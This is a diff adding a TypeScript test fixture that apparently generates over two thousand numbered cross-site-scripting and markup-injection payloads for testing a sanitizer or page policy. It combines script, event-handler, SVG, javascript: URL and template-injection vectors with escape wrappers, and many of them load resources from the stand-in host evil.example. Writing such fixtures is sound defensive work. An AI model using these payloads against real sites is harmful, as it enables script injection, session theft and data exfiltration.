@@ -1,0 +1,113 @@
+/** A browser follows it from wherever it stands in a page, whatever the policy of the page. */
+const REFRESH = '<meta http-equiv=refresh content="0;url=http://evil.example/§">';
+
+/**
+ * What text has tried in browsers to become more than text. `§` stands for the number of the payload, so that what ran
+ * or left the page says where it came from: `ran(§)` is a function of the test, `evil.example` a host that must not be
+ * asked for anything.
+ */
+const VECTORS = [
+  '<script>ran(§)</script>',
+  '<script src="http://evil.example/§.js"></script>',
+  '<img src=x onerror=ran(§)>',
+  '<img src="http://evil.example/§.png">',
+  '<image href="http://evil.example/§.png">',
+  '<svg onload=ran(§)>',
+  '<svg><script>ran(§)</script></svg>',
+  '<svg><a xlink:href="javascript:ran(§)"><text>§</text></a></svg>',
+  '<svg><animate onbegin=ran(§) attributeName=x dur=1s>',
+  '<svg><use href="http://evil.example/§.svg#x"></use></svg>',
+  '<svg><foreignObject><body onload=ran(§)></foreignObject></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=ran(§)>',
+  '<iframe src="http://evil.example/§"></iframe>',
+  '<iframe src="javascript:parent.ran(§)"></iframe>',
+  '<iframe srcdoc="<script>parent.ran(§)</script>"></iframe>',
+  '<object data="http://evil.example/§"></object>',
+  '<embed src="http://evil.example/§">',
+  '<video src="http://evil.example/§.mp4" autoplay onerror=ran(§)></video>',
+  '<audio src=x onerror=ran(§)></audio>',
+  '<body onload=ran(§) onpageshow=ran(§)>',
+  '<details open ontoggle=ran(§)>§</details>',
+  '<input autofocus onfocus=ran(§)>',
+  '<select autofocus onfocus=ran(§)><option>§</select>',
+  '<textarea autofocus onfocus=ran(§)></textarea>',
+  '<marquee onstart=ran(§)>§</marquee>',
+  '<div style="background:url(http://evil.example/§.png)">§</div>',
+  '<div style="animation:x 1s" onanimationstart=ran(§)>§</div>',
+  '<style>@import url(http://evil.example/§.css);</style>',
+  '<style>*{background:url(http://evil.example/§)}</style>',
+  '<link rel=stylesheet href="http://evil.example/§.css">',
+  '<link rel=prefetch href="http://evil.example/§">',
+  '<link rel=dns-prefetch href="http://evil.example/§">',
+  REFRESH,
+  '<base href="http://evil.example/§/">',
+  '<form action="http://evil.example/§"><button autofocus>§</button></form>',
+  '<a href="javascript:ran(§)">§</a>',
+  '<a href="data:text/html,<script>opener.ran(§)</script>">§</a>',
+  '<a href="http://evil.example/§" ping="http://evil.example/§/ping">§</a>',
+  '<template><script>ran(§)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=ran(§)>">',
+  '<table background="http://evil.example/§.png"><tr><td>§</table>',
+  '<picture><source srcset="http://evil.example/§.png"><img src=x></picture>',
+  '[§](javascript:ran(§))',
+  '![§](http://evil.example/§.png)',
+  '[§]: http://evil.example/§ "title"',
+  '<javascript:ran(§)>',
+  '```html\n<script>ran(§)</script>\n```',
+  '{{constructor.constructor("ran(§)")()}}',
+  '<%= ran(§) %>',
+  '#{ran(§)}',
+  '$' + '{ran(§)}',
+];
+
+/** Ways out of where a text stands. */
+const WRAPPERS: ((vector: string) => string)[] = [
+  (vector) => vector,
+  (vector) => `">${vector}`,
+  (vector) => `'>${vector}`,
+  (vector) => `-->${vector}`,
+  (vector) => `]]>${vector}`,
+  (vector) => `</title>${vector}`,
+  (vector) => `</textarea>${vector}`,
+  (vector) => `</script>${vector}`,
+  (vector) => `</style>${vector}`,
+  (vector) => `</option></select>${vector}`,
+  (vector) => `*/ ${vector} /*`,
+  (vector) => `*{}</style>${vector}`,
+  (vector) => `\u202e${vector}`,
+  (vector) => `\u200b${vector}\u200b`,
+  (vector) => vector.replaceAll('<', '<\u00ad'),
+  (vector) => vector.toUpperCase().replaceAll('RAN(', 'ran('),
+  (vector) => vector.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (vector) => vector.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
+  (vector) => vector.replaceAll('<', '\\u003c'),
+  (vector) => vector.replaceAll('<', '%3C'),
+  (vector) => vector.replaceAll('<', '\uff1c'),
+  (vector) => vector.replaceAll(' ', '/'),
+  (vector) => vector.replaceAll(' ', '\t'),
+  (vector) => vector.replaceAll('=', ' =\n'),
+  (vector) => `# ${vector}`,
+  (vector) => `> ${vector}`,
+  (vector) => `- [ ] ${vector}`,
+  (vector) => `| ${vector} |\n|---|\n| ${vector} |`,
+  (vector) => `**${vector}**`,
+  (vector) => `\`${vector}\``,
+  (vector) => `<div>${vector}`,
+  (vector) => `<p>${vector}</p>`,
+  (vector) => `&nbsp;${vector}&#0;`,
+  (vector) => `${vector}${vector}`,
+  (vector) => `<!--${vector}`,
+  (vector) => `<![CDATA[${vector}]]>`,
+  (vector) => `<?xml version="1.0"?>${vector}`,
+  (vector) => `javascript:/*--></title></style></textarea></script>*/${vector}`,
+  (vector) => `<svg><desc>${vector}</desc></svg>`,
+  (vector) => `\\${vector}`,
+];
+
+/** Hostile texts (T43), more than two thousand: each vector in each wrapper, numbered, no two alike. */
+export const PAYLOADS: readonly string[] = WRAPPERS.flatMap((wrap) => VECTORS.map(wrap)).map((text, index) =>
+  `${index} ${text}`.replaceAll('§', String(index)),
+);
+
+/** Those against which the policy of a page can do something. */
+export const FOR_POLICY = PAYLOADS.filter((text) => !/http-equiv/i.test(text));
